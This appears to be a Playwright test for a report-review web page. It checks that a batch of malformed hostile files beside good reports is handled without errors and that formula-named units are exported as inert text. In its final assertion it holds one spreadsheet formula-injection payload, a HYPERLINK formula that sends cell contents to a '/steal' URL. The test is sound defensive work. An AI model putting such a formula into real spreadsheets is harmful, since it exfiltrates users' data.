// 汇总审核 over hostile files mixed with good reports (the light part of the hostile corpus,
// src/cli/testing/hostile-corpus.ts; the heavy bombs are the command line test's): every good
// report gets its row, every bad file is named with its reason, the files that are not reports are
// named in the notice, and the page raises no error. The problem list holds no formula.
import { expect, test } from '@playwright/test'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { writeHostileCorpus } from '../src/cli/testing/hostile-corpus.ts'
import { readXlsxSheets } from '../src/import/xlsx-sheets.ts'
import { batchFinished, collectPageErrors, freshApp, openPage } from './helpers.ts'

const GOOD_DOCX = 'src/import/test-fixtures/seed-layout.docx'

test('a batch of hostile files and good reports: the good read, the bad named, nothing stops', async ({ page }) => {
  const errors = collectPageErrors(page)
  const dir = test.info().outputPath('hostile')
  const corpus = writeHostileCorpus(dir, { goodDocx: [{ name: 'seed-layout.docx', bytes: readFileSync(GOOD_DOCX), agency: '叶城县白杨镇人民政府' }] })
    // Hidden names (a leading dot) are passed over by the file picker's rules, as in a dropped folder.
    .filter((f) => !f.name.split('/').at(-1)!.startsWith('.'))
  const path = (name: string) => join(dir, ...name.split('/'))
  // The review table scrolls virtually: tall enough to hold every row at once.
  await page.setViewportSize({ width: 1366, height: 2400 })
  await freshApp(page)
  await openPage(page, '汇总审核')
  await page.getByTestId('batch-files').setInputFiles(corpus.map((f) => path(f.name)))
  // The files that are not reports are named in a notice (shown for 4 s, as the batch starts).
  await expect(page.locator('.toast', { hasText: '已跳过 2 个不是报告的文件' })).toContainText('notes.txt')
  const reports = corpus.filter((f) => f.expect !== 'skipped')
  await batchFinished(page, reports.length, 60_000)

  // Every good report has its row (files of one unit and year share one); a tab or a carriage
  // return that starts a unit's name shows as white space.
  const blank = (text: string | null) => (text ?? '').replace(/\s+/g, ' ').trim()
  const agencies = new Set(corpus.flatMap((f) => (f.expect === 'read' ? [blank(f.agency!)] : [])))
  const shown = new Set((await page.locator('[data-report-row]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-agency')))).map(blank))
  expect(shown).toEqual(agencies)
  // Every bad file is named, with a reason.
  const base = (name: string) => name.split('/').at(-1)!
  const failed = await page.locator('[data-failed-file]').evaluateAll((items) => items.map((i) => [i.getAttribute('data-failed-file'), i.textContent ?? ''] as const))
  expect(failed.map(([name]) => name).sort()).toEqual(corpus.filter((f) => f.expect === 'failed').map((f) => base(f.name)).sort())
  for (const [name, text] of failed) expect(text.length, name ?? '').toBeGreaterThan((name ?? '').length + 6)

  // The problem list: the formula-named units are text.
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: '导出问题清单' }).click()
  const saved = test.info().outputPath('problems.xlsx')
  await (await download).saveAs(saved)
  const [summary] = readXlsxSheets(readFileSync(saved))
  expect(summary?.rows.map((r) => r[0])).toContain('=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")公式0镇人民政府')
  expect(errors).toEqual([])
})
